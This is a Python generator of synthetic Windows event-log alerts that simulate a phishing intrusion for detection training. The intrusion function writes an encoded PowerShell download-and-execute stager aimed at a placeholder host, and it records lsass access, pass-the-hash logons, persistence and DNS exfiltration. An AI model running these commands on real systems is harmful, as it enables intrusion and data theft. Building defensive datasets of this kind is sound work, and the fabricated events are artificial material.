"""Alerts of the Windows event channel: Sysmon, Security, System, PowerShell, Defender."""

import base64

from base import *

CHANNELS = {
    "sysmon": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
               "Microsoft-Windows-Sysmon/Operational", "0x8000000000000000"),
    "security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}", "Security",
                 "0x8020000000000000"),
    "system": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System", "0x8080000000000000"),
    "powershell": ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
                   "Microsoft-Windows-PowerShell/Operational", "0x0"),
    "defender": ("Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}",
                 "Microsoft-Windows-Windows Defender/Operational", "0x8000000000000000"),
}
SYSMON = {1: ("61603", "Process Create", "commandLine"), 3: ("61605", "Network connection detected", "image"),
          5: ("61607", "Process terminated", "image"), 6: ("61608", "Driver loaded", "imageLoaded"),
          7: ("61609", "Image loaded", "imageLoaded"), 8: ("61610", "CreateRemoteThread detected", "sourceImage"),
          10: ("61612", "Process accessed", "targetImage"), 11: ("61613", "File created", "targetFilename"),
          12: ("61614", "Registry object added or deleted", "targetObject"),
          13: ("61615", "Registry value set", "targetObject"),
          15: ("61617", "File stream created", "targetFilename"), 17: ("61645", "Pipe Created", "pipeName"),
          22: ("61650", "Dns query", "queryName"), 23: ("61651", "File Delete archived", "targetFilename"),
          25: ("61653", "Process Tampering", "image"), 26: ("61654", "File Delete logged", "targetFilename")}
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
dice = Dice("windows")


def escaped(value):
    """The event is decoded from XML that was put into a JSON string: its escapes stay in the values."""
    value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    value = value.replace("\\", "\\\\").replace('"', '\\"')
    return value.replace("\r", "\\r").replace("\n", "\\n").replace("\t", "\\t")


def event(log, when, agent, rule, channel, number, fields, message, desc=None, severity=None, task=None):
    provider, guid, path, keywords = CHANNELS[channel]
    security = channel == "security"
    failed = number == 4625
    system = {"providerName": provider, "providerGuid": guid}
    if channel == "system":
        system["eventSourceName"] = provider
    system.update({
        "eventID": str(number), "version": {"sysmon": "5", "powershell": "1"}.get(channel, "0"),
        "level": "0" if security else "4", "task": str(task if task is not None else number), "opcode": "0",
        "keywords": "0x8010000000000000" if failed else keywords,
        "systemTime": moment(shift(when, -1240)).strftime("%Y-%m-%dT%H:%M:%S.%f") + "%dZ" % dice.below(10),
        "eventRecordID": str(dice.between(20000, 900000)), "processID": str(dice.between(400, 4200)),
        "threadID": str(dice.between(500, 9000)), "channel": path, "computer": AGENTS[agent][2],
        "severityValue": severity or ("AUDIT_FAILURE" if failed else "AUDIT_SUCCESS" if security else "INFORMATION"),
        "message": '"' + message + '"'})
    data = {"win": {"system": system,
                    "eventdata": {name: escaped(value) for name, value in fields.items() if value not in ("", "-")}}}
    log.add(when, agent, rule, "windows_eventchannel", "EventChannel", data, desc=desc)


def sysmon(log, when, agent, number, rule=None, **fields):
    general, title, main = SYSMON[number]
    utc = moment(shift(when, -1260))
    head = {"utcTime": utc.strftime("%Y-%m-%d %H:%M:%S.") + millis(utc)}
    if number in (8, 10):
        for side, suffix in (("source", "Guid" if number == 8 else "GUID"), ("target", "Guid" if number == 8 else "GUID")):
            head[side + "Process" + suffix] = dice.guid()
            head[side + "ProcessId"] = str(dice.between(500, 9900))
    elif number != 6:
        head["processGuid"] = dice.guid()
        head["processId"] = str(dice.between(500, 9900))
    fields = {**head, **fields}
    lines = [title + ":", "RuleName: -"] + [n[0].upper() + n[1:] + ": " + v for n, v in fields.items()]
    text = None if rule else f"{log.rules[general][1]}: {escaped(fields[main])}"
    event(log, when, agent, rule or general, "sysmon", number, fields, "\r\n".join(lines), desc=text)


def hashes(of, names=("sha1", "md5", "sha256")):
    """As Sysmon writes them: one string, upper case."""
    pairs = [f"{name.upper()}={of[name].upper()}" for name in names]
    return ",".join(pairs + ["IMPHASH=" + digests("imphash" + of["md5"])["md5"].upper()])


def process(log, when, agent, user, image, command, parent, parent_command, of=None, rule=None, level="Medium"):
    name = image.rsplit("\\", 1)[1]
    microsoft = image.startswith("C:\\Windows")
    sysmon(log, when, agent, 1, rule, image=image, fileVersion="10.0.19041.1" if microsoft else "2.4.0.0",
           description=name.split(".")[0].title(),
           product="Microsoft® Windows® Operating System" if microsoft else name.split(".")[0].title(),
           company="Microsoft Corporation" if microsoft else "-", originalFileName=name, commandLine=command,
           currentDirectory=image.rsplit("\\", 1)[0] + "\\", user=f"{DOMAIN}\\{user}", logonGuid=dice.guid(),
           logonId=hex(dice.between(200000, 9000000)), terminalSessionId="1", integrityLevel=level,
           hashes=hashes(of or digests(image)), parentProcessGuid=dice.guid(),
           parentProcessId=str(dice.between(600, 9000)), parentImage=parent, parentCommandLine=parent_command,
           parentUser=f"{DOMAIN}\\{user}")


def network(log, when, agent, user, image, to, port, host="", rule=None, protocol="tcp"):
    source = "fd00:20:4::57" if ":" in to else AGENTS[agent][1]
    sysmon(log, when, agent, 3, rule, image=image, user=f"{DOMAIN}\\{user}", protocol=protocol, initiated="true",
           sourceIsIpv6=str(":" in to).lower(), sourceIp=source, sourceHostname=AGENTS[agent][2],
           sourcePort=str(dice.between(49200, 65000)), destinationIsIpv6=str(":" in to).lower(), destinationIp=to,
           destinationHostname=host, destinationPort=str(port),
           destinationPortName={443: "https", 80: "http"}.get(port, "-"))


def query(log, when, agent, user, image, name, answer, status="0"):
    sysmon(log, when, agent, 22, queryName=name, queryStatus=status, queryResults=answer, image=image,
           user=f"{DOMAIN}\\{user}")


def created(log, when, agent, user, image, path, rule=None):
    sysmon(log, when, agent, 11, rule, image=image, targetFilename=path,
           creationUtcTime=moment(when).strftime("%Y-%m-%d %H:%M:%S.000"), user=f"{DOMAIN}\\{user}")


def subject(user):
    return {"subjectUserSid": USERS.get(user, "S-1-5-18"), "subjectUserName": user, "subjectDomainName": DOMAIN,
            "subjectLogonId": hex(dice.between(200000, 9000000))}


def logon(log, when, agent, user, address, kind="3", rule="60106", package="Kerberos", desc=None):
    event(log, when, agent, rule, "security", 4624, {
        "subjectUserSid": "S-1-0-0", "subjectLogonId": "0x0", "targetUserSid": USERS[user], "targetUserName": user,
        "targetDomainName": DOMAIN, "targetLogonId": hex(dice.between(200000, 9000000)), "logonType": kind,
        "logonProcessName": package[:8], "authenticationPackageName": package,
        "workstationName": "WS-FINANCE-07" if package == "NTLM" else "-", "logonGuid": dice.guid(), "keyLength": "0",
        "processId": "0x0", "ipAddress": address, "ipPort": str(dice.between(49200, 65000)),
        "impersonationLevel": "%%1833", "virtualAccount": "%%1843", "targetLinkedLogonId": "0x0",
        "elevatedToken": "%%1842"}, "An account was successfully logged on.", desc=desc, task=12544)


def failed_logon(log, when, agent, user, address, rule="60122", station="-"):
    event(log, when, agent, rule, "security", 4625, {
        "subjectUserSid": "S-1-0-0", "subjectLogonId": "0x0", "targetUserSid": "S-1-0-0", "targetUserName": user,
        "targetDomainName": DOMAIN, "status": "0xc000006d", "failureReason": "%%2313", "subStatus": "0xc000006a",
        "logonType": "3", "logonProcessName": "NtLmSsp", "authenticationPackageName": "NTLM",
        "workstationName": station, "keyLength": "0", "processId": "0x0", "ipAddress": address,
        "ipPort": str(dice.between(49200, 65000))}, "An account failed to log on.", task=12544)


def audit(log, when, agent, number, fields, message, rule="100130", task=12800):
    event(log, when, agent, rule, "security", number, fields, message, task=task,
          desc=f"Windows audit success event {number}" if rule == "100130" else None)


def script_block(log, when, agent, text, path="-", rule="91809"):
    event(log, when, agent, rule, "powershell", 4104, {
        "messageNumber": "1", "messageTotal": "1", "scriptBlockText": text, "scriptBlockId": dice.guid()[1:-1],
        "path": path}, "Creating Scriptblock text (1 of 1):\r\n" + text, severity="WARNING", task=2)


# --- the intrusion ----------------------------------------------------------------------------------


def intrusion(log):
    keller, victim = "m.keller", "004"
    lure = "C:\\Users\\m.keller\\Downloads\\" + LURE
    # Monday: the lure is opened
    sysmon(log, "16 08:51:40.212", victim, 15, image=EDGE, targetFilename=lure,
           creationUtcTime="2026-03-16 08:51:38.902", hash=hashes(LURE_HASH),
           contents="[ZoneTransfer]  ZoneId=3  HostUrl=about:internet", user=f"{DOMAIN}\\{keller}")
    process(log, "16 08:52:03.771", victim, keller, WINWORD, f'"{WINWORD}" /n "{lure}" /o ""',
            "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
    stage = f"IEX (New-Object Net.WebClient).DownloadString('{DROP_URL}')"
    encoded = base64.b64encode(stage.encode("utf-16-le")).decode()
    process(log, "16 08:52:10.334", victim, keller, SYSTEM32 + "cmd.exe",
            f'cmd.exe /c "powershell -nop -w hidden -enc {encoded} & exit"', WINWORD, f'"{WINWORD}" /n "{lure}" /o ""',
            rule="92052")
    process(log, "16 08:52:11.018", victim, keller, POWERSHELL, f"powershell -nop -w hidden -enc {encoded}",
            SYSTEM32 + "cmd.exe", f'cmd.exe /c "powershell -nop -w hidden -enc {encoded} & exit"', rule="92057")
    script_block(log, "16 08:52:12.120", victim,
                 f'{stage}; $b = [Convert]::FromBase64String("TVqQAAMAAAAEAAAA"); '
                 f"Invoke-WebRequest -UserAgent '{USER_AGENT}' -Uri {PAYLOAD_URL} -OutFile \"{IMPLANT_PATH}\"")
    query(log, "16 08:52:12.480", victim, keller, POWERSHELL, DROP_HOST, f"::ffff:{DROP_IP};")
    network(log, "16 08:52:12.802", victim, keller, POWERSHELL, DROP_IP, 80, DROP_HOST, rule="92107")
    created(log, "16 08:52:14.002", victim, keller, POWERSHELL, "C:\\Users\\m.keller\\AppData\\Local\\Temp\\upd.ps1",
            rule="92200")
    created(log, "16 08:52:15.450", victim, keller, POWERSHELL, IMPLANT_PATH, rule="92213")
    process(log, "16 08:52:18.230", victim, keller, IMPLANT_PATH, f'"{IMPLANT_PATH}" --sync', POWERSHELL,
            f"powershell -nop -w hidden -enc {encoded}", IMPLANT_HASH)
    sysmon(log, "16 08:52:18.900", victim, 7, image=IMPLANT_PATH, imageLoaded=IMPLANT_DIR + "\\nbcore.dll",
           fileVersion="2.4.0.0", description="Nimbus Core", product="Nimbus", company="-",
           originalFileName="nbcore.dll", hashes=hashes(LOADER_DLL_HASH), signed="false", signature="-",
           signatureStatus="Unavailable", user=f"{DOMAIN}\\{keller}")
    sysmon(log, "16 08:52:19.305", victim, 17, eventType="CreatePipe", pipeName=PIPE, image=IMPLANT_PATH,
           user=f"{DOMAIN}\\{keller}")
    audit(log, "16 08:52:19.611", victim, 4656, {
        **subject(keller), "objectServer": "Security", "objectType": "Mutant",
        "objectName": "\\BaseNamedObjects\\" + MUTEX.split("\\", 1)[1], "handleId": "0x2c4",
        "transactionId": "{00000000-0000-0000-0000-000000000000}", "accessList": "%%1537\r\n\t\t\t\t%%4480",
        "accessMask": "0x1f0001", "processId": "0x1b5c", "processName": IMPLANT_PATH},
        "A handle to an object was requested.", task=12804)
    sysmon(log, "16 08:52:20.044", victim, 12, eventType="CreateKey", image=IMPLANT_PATH,
           targetObject=f"HKU\\{USERS[keller]}\\SOFTWARE\\Nimbus", user=f"{DOMAIN}\\{keller}")
    sysmon(log, "16 08:52:20.410", victim, 13, "92302", eventType="SetValue", image=SYSTEM32 + "reg.exe",
           targetObject=f"HKU\\{USERS[keller]}\\{RUN_KEY}\\{RUN_VALUE}", details=f'"{IMPLANT_PATH}" --sync',
           user=f"{DOMAIN}\\{keller}")
    audit(log, "16 08:52:20.688", victim, 4657, {
        **subject(keller), "objectName": f"\\REGISTRY\\USER\\{USERS[keller]}\\{RUN_KEY}",
        "objectValueName": RUN_VALUE, "handleId": "0x1dc", "operationType": "%%1904", "oldValueType": "-",
        "oldValue": "-", "newValueType": "%%1873", "newValue": f'"{IMPLANT_PATH}" --sync', "processId": "0x1c44",
        "processName": SYSTEM32 + "reg.exe"}, "A registry value was modified.", task=12801)
    sysmon(log, "16 08:52:44.190", victim, 8, sourceImage=IMPLANT_PATH, targetImage="C:\\Windows\\explorer.exe",
           newThreadId="7712", startAddress="0x00007FFB3A2C1260", startModule=IMPLANT_DIR + "\\nbcore.dll",
           startFunction="NbRun", sourceUser=f"{DOMAIN}\\{keller}", targetUser=f"{DOMAIN}\\{keller}")
    sysmon(log, "16 08:52:44.900", victim, 25, image="C:\\Windows\\explorer.exe", type="Image is replaced",
           user=f"{DOMAIN}\\{keller}")
    # beacons, three a day
    for day, times in (("16", ("08:53:02.101", "12:10:40.550", "18:44:19.007")),
                       ("17", ("02:15:33.872", "09:31:07.400", "16:02:58.219")), ("18", ("05:20:11.640",))):
        for at in times:
            query(log, f"{day} {at}", victim, keller, IMPLANT_PATH, C2_HOST, f"::ffff:{C2_IP};{C2_IP6};")
            network(log, shift(f"{day} {at}", 180), victim, keller, IMPLANT_PATH, C2_IP, 443, C2_HOST)
    network(log, "17 20:40:00.333", victim, keller, IMPLANT_PATH, C2_IP6, 443, C2_HOST)
    audit(log, "16 12:10:41.002", victim, 5156, {
        "processID": "7004", "application": "\\device\\harddiskvolume3\\users\\m.keller\\appdata\\roaming\\nimbus\\"
        + IMPLANT, "direction": "%%14593", "sourceAddress": AGENTS[victim][1], "sourcePort": "51877",
        "destAddress": C2_IP, "destPort": "443", "protocol": "6", "filterRTID": "71203", "layerName": "%%14611",
        "layerRTID": "48", "remoteUserID": "S-1-0-0", "remoteMachineID": "S-1-0-0"},
        "The Windows Filtering Platform has permitted a connection.", task=12810)
    event(log, "16 13:05:27.918", "005", "62123", "defender", 1116, {
        "product Name": "Microsoft Defender Antivirus", "product Version": "4.18.26020.3",
        "detection ID": dice.guid(), "detection Time": "2026-03-16T13:05:26.771Z", "threat ID": "2147780199",
        "threat Name": "TrojanDownloader:O97M/Nimbus.A", "severity ID": "5", "severity Name": "Severe",
        "category ID": "4", "category Name": "Trojan Downloader",
        "fWLink": "https://go.defender.example/fwlink/?linkid=37020&name=TrojanDownloader:O97M/Nimbus.A",
        "status Code": "1", "state": "1", "source ID": "3", "source Name": "%%818", "process Name": EDGE,
        "detection User": f"{DOMAIN}\\j.brandt", "path": "file:_C:\\Users\\j.brandt\\Downloads\\" + LURE,
        "origin ID": "4", "origin Name": "%%847", "type ID": "0", "type Name": "%%822", "action ID": "9",
        "action Name": "%%887", "error Code": "0x00000000",
        "error Description": "The operation completed successfully.",
        "engine Version": "AM: 1.1.26020.2, NIS: 1.1.26020.2"},
        "Microsoft Defender Antivirus has detected malware or other potentially unwanted software.",
        desc="Windows Defender: Antimalware platform detected potentially unwanted software "
        "(TrojanDownloader:O97M/Nimbus.A)", severity="WARNING", task=0)
    # Tuesday: credentials, then the domain controller and the file server
    sysmon(log, "17 09:40:12.313", victim, 10, "92900", sourceThreadId="6120", sourceImage=IMPLANT_PATH,
           targetImage=SYSTEM32 + "lsass.exe", grantedAccess="0x1010",
           callTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c03e|"
           f"{IMPLANT_DIR}\\nbcore.dll+11a0", sourceUser=f"{DOMAIN}\\{keller}", targetUser="NT AUTHORITY\\SYSTEM")
    audit(log, "17 09:52:00.540", victim, 4648, {
        **subject(keller), "logonGuid": "{00000000-0000-0000-0000-000000000000}", "targetUserName": "adm.novak",
        "targetDomainName": DOMAIN, "targetLogonGuid": dice.guid(), "targetServerName": "FS01.corvina.test",
        "targetInfo": "FS01.corvina.test", "processId": "0x1b5c", "processName": IMPLANT_PATH, "ipAddress": "-"},
        "A logon was attempted using explicit credentials.", task=12544)
    for host, base in (("003", "17 10:01"), ("009", "17 10:14")):
        logon(log, f"{base}:02.114", host, "adm.novak", AGENTS[victim][1], rule="92652", package="NTLM",
              desc=f"Successful Remote Logon Detected - User:\\adm.novak - NTLM authentication, possible "
              f"pass-the-hash attack. IP: {AGENTS[victim][1]}")
        audit(log, f"{base}:02.870", host, 5140, {
            **subject("adm.novak"), "objectType": "File", "ipAddress": AGENTS[victim][1], "ipPort": "51902",
            "shareName": "\\\\*\\ADMIN$", "shareLocalPath": "\\??\\C:\\Windows", "accessMask": "0x1",
            "accessList": "%%4416"}, "A network share object was accessed.", rule="67017", task=12808)
        created(log, f"{base}:03.404", host, "adm.novak", "System", IMPLANT_SERVER_PATH, rule="92213")
        event(log, f"{base}:04.221", host, "61138", "system", 7045, {
            "serviceName": "NimbusSvc", "imagePath": f'"{IMPLANT_SERVER_PATH}" --svc',
            "serviceType": "user mode service", "startType": "auto start", "accountName": "LocalSystem"},
            "A service was installed in the system.", task=0)
        process(log, f"{base}:06.015", host, "SYSTEM", IMPLANT_SERVER_PATH, f'"{IMPLANT_SERVER_PATH}" --svc',
                SYSTEM32 + "services.exe", SYSTEM32 + "services.exe", IMPLANT_HASH, level="System")
        network(log, f"{base}:09.700", host, "SYSTEM", IMPLANT_SERVER_PATH, C2_IP, 443, C2_HOST)
    audit(log, "17 10:01:04.198", "003", 4697, {
        **subject("adm.novak"), "serviceName": "NimbusSvc", "serviceFileName": f'"{IMPLANT_SERVER_PATH}" --svc',
        "serviceType": "0x10", "serviceStartType": "2", "serviceAccount": "LocalSystem"},
        "A service was installed in the system.", task=12289)
    sysmon(log, "17 10:01:04.350", "003", 13, eventType="SetValue", image=SYSTEM32 + "services.exe",
           targetObject=f"HKLM\\{SERVICE_KEY}\\ImagePath", details=f'"{IMPLANT_SERVER_PATH}" --svc',
           user="NT AUTHORITY\\SYSTEM")
    audit(log, "17 10:03:30.909", "003", 4698, {
        **subject("adm.novak"), "taskName": "\\Microsoft\\Windows\\NimbusSync",
        "taskContent": '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n  <Actions>\r\n    <Exec>'
        f"\r\n      <Command>{IMPLANT_SERVER_PATH}</Command>\r\n      <Arguments>--sync & exit</Arguments>\r\n"
        "    </Exec>\r\n  </Actions>\r\n</Task>"}, "A scheduled task was created.", rule="60228", task=12804)
    audit(log, "17 10:05:11.260", "003", 4720, {
        "targetUserName": "svc_backup2", "targetDomainName": DOMAIN, "targetSid": SID + "1299",
        **subject("adm.novak"), "samAccountName": "svc_backup2", "userPrincipalName": "svc_backup2@corvina.test",
        "primaryGroupId": "513", "oldUacValue": "0x0", "newUacValue": "0x15"}, "A user account was created.",
        rule="60109", task=13824)
    # Wednesday: collection on the file server, exfiltration by DNS, cleaning up
    rar = "C:\\ProgramData\\Nimbus\\nb7.exe"
    process(log, "18 01:10:20.440", "009", "SYSTEM", rar,
            f'{rar} a -hpQ9!x -v20m C:\\ProgramData\\Nimbus\\s.dat "D:\\Finance\\2026"', IMPLANT_SERVER_PATH,
            f'"{IMPLANT_SERVER_PATH}" --svc', digests("archiver"), level="System")
    audit(log, "18 01:10:31.018", "009", 4663, {
        **subject("FS01$"), "objectServer": "Security", "objectType": "File",
        "objectName": "D:\\Finance\\2026\\Zahlungsläufe Q1.xlsx", "handleId": "0x9b0", "accessList": "%%4416\r\n\t\t\t\t",
        "accessMask": "0x1", "processId": "0xf10", "processName": rar},
        "An attempt was made to access an object.")
    for number in range(1, 9):
        query(log, f"18 01:{20 + number}:{10 + number * 3}.{number}07", "009", "SYSTEM", IMPLANT_SERVER_PATH,
              exfil_name(number), "type:  16 ok;")
    sysmon(log, "18 05:22:40.119", "009", 23, image=IMPLANT_SERVER_PATH, targetFilename="C:\\ProgramData\\Nimbus\\s.dat",
           hashes=hashes(digests("archive")), isExecutable="false", archived="true", user="NT AUTHORITY\\SYSTEM")
    sysmon(log, "18 05:23:02.667", victim, 26, image=SYSTEM32 + "cmd.exe", targetFilename=IMPLANT_PATH,
           hashes=hashes(IMPLANT_HASH), isExecutable="true", user=f"{DOMAIN}\\{keller}")
    sysmon(log, "18 05:23:04.001", victim, 5, image=IMPLANT_PATH, user=f"{DOMAIN}\\{keller}")


# --- everyday noise ---------------------------------------------------------------------------------


def noise(log, days=("14", "15", "16", "17", "18"), scale=1):
    sites = [("update.vendor-os.example", "192.0.2.80"), ("mail.corvina.example", "192.0.2.25"),
             ("www.news-portal.example", "192.0.2.81"), ("cdn.office-suite.example", "192.0.2.90"),
             ("time.corvina.test", "10.20.0.10"), ("intranet.corvina.test", "10.20.0.11")]
    people = {"003": "Administrator", "004": "m.keller", "005": "j.brandt", "006": "a.novak", "009": "Administrator"}
    onedrive = "C:\\Program Files\\OneDrive\\OneDrive.exe"
    for day in days:
        for _ in range(scale):
            agent = dice.pick(WINDOWS)
            user = people[agent]
            at = lambda: f"{day} {dice.time(6, 19)}"
            host, address = dice.pick(sites)
            query(log, at(), agent, user, EDGE, host, f"type:  5 edge.{host};::ffff:{address};")
            network(log, at(), dice.pick(WINDOWS), "SYSTEM", SYSTEM32 + "svchost.exe", address, 443, host)
            other = dice.pick(["004", "005", "006"])
            process(log, at(), other, people[other], SYSTEM32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c whoami /all",
                    "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", rule="92032")
            created(log, at(), other, people[other], onedrive,
                    f"C:\\Users\\{people[other]}\\AppData\\Local\\Temp\\~{dice.hexa(6)}.tmp")
            logon(log, at(), "003", dice.pick(["m.keller", "j.brandt", "a.novak"]), AGENTS[other][1])
            failed_logon(log, at(), "003", dice.pick(["m.keller", "j.brandt", "scanner"]), AGENTS[other][1],
                         station=AGENTS[other][0].upper())
            audit(log, at(), dice.pick(WINDOWS), 4688, {
                **subject("FS01$"), "newProcessId": "0x1b50", "newProcessName": SYSTEM32 + "taskhostw.exe",
                "tokenElevationType": "%%1936", "processId": "0x32c", "commandLine": 'taskhostw.exe "KEYROAMING"',
                "targetUserSid": "S-1-0-0", "targetLogonId": "0x0", "parentProcessName": SYSTEM32 + "svchost.exe",
                "mandatoryLabel": "S-1-16-16384"}, "A new process has been created.", rule="67027", task=13312)
            sysmon(log, at(), dice.pick(WINDOWS), 5, image=SYSTEM32 + "backgroundTaskHost.exe",
                   user="NT AUTHORITY\\SYSTEM")
            sysmon(log, at(), dice.pick(WINDOWS), 13, eventType="SetValue", image=SYSTEM32 + "svchost.exe",
                   targetObject="HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime",
                   details="QWORD (0x01dab%s)" % dice.hexa(11), user="NT AUTHORITY\\LOCAL SERVICE")


def extras(log):
    """One alert each of what the days above lack."""
    sysmon(log, "14 06:00:03.510", "006", 6, imageLoaded=SYSTEM32 + "drivers\\e1i65x64.sys",
           hashes=hashes(digests("network driver")), signed="true", signature="Example Silicon Ltd.",
           signatureStatus="Valid")
    sysmon(log, "14 09:12:44.031", "005", 7, "92154", image="C:\\Program Files\\Backup Agent\\agent.exe",
           imageLoaded=SYSTEM32 + "taskschd.dll", fileVersion="10.0.19041.1", description="Task Scheduler COM API",
           product="Microsoft® Windows® Operating System", company="Microsoft Corporation",
           originalFileName="taskschd.dll", hashes=hashes(digests("taskschd"), ("sha256",)), signed="true",
           signature="Microsoft Windows", signatureStatus="Valid", user="NT AUTHORITY\\SYSTEM")
    sysmon(log, "15 11:40:31.220", "006", 17, eventType="CreatePipe", pipeName="<Anonymous Pipe>",
           image="C:\\Program Files\\Git\\usr\\bin\\bash.exe", user=f"{DOMAIN}\\a.novak")
    sysmon(log, "15 14:02:08.777", "006", 23, image="C:\\Program Files\\Git\\cmd\\git.exe",
           targetFilename="C:\\work\\tool\\empty.txt", hashes=hashes(digests("")), isExecutable="false",
           archived="true", user=f"{DOMAIN}\\a.novak")
    sysmon(log, "17 11:21:50.414", "005", 15, image=EDGE, targetFilename="C:\\Users\\j.brandt\\Downloads\\preisliste.pdf",
           creationUtcTime="2026-03-17 11:21:49.001", hash="SHA256=" + digests("price list")["sha256"].upper(),
           contents="[ZoneTransfer]  ZoneId=3  HostUrl=https://www.news-portal.example/preisliste.pdf",
           user=f"{DOMAIN}\\j.brandt")
    script_block(log, "15 10:33:09.180", "006", "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU",
                 "C:\\work\\tool\\top.ps1", rule="91815")
    event(log, "14 22:10:00.040", "009", "61138", "system", 7045, {
        "serviceName": "Backup Agent", "imagePath": '"C:\\Program Files\\Backup Agent\\agent.exe" -k run',
        "serviceType": "user mode service", "startType": "auto start", "accountName": "LocalSystem"},
        "A service was installed in the system.", task=0)
    for number in range(5):
        failed_logon(log, f"15 03:1{number}:40.{number}13", "009", "Administrator", "::ffff:" + BRUTE_IP,
                     "60204" if number == 4 else "60122")
    audit(log, "14 15:25:30.600", "003", 5156, {
        "processID": "812", "application": "\\device\\harddiskvolume1\\windows\\system32\\svchost.exe",
        "direction": "%%14593", "sourceAddress": "fe80::80ac:4126:fa58:1b81", "sourcePort": "546",
        "destAddress": "ff02::1:2", "destPort": "547", "protocol": "17", "filterRTID": "65853",
        "layerName": "%%14611", "layerRTID": "50", "remoteUserID": "S-1-0-0", "remoteMachineID": "S-1-0-0"},
        "The Windows Filtering Platform has permitted a connection.", task=12810)
    audit(log, "16 07:58:12.908", "003", 4624, {
        **subject("DC01$"), "targetUserSid": "S-1-5-18", "targetUserName": "SYSTEM", "targetDomainName": "NT AUTHORITY",
        "logonType": "5", "logonProcessName": "Advapi", "authenticationPackageName": "Negotiate",
        "processName": SYSTEM32 + "services.exe", "ipAddress": "127.0.0.1", "ipPort": "0"},
        "An account was successfully logged on.", rule="60106", task=12544)
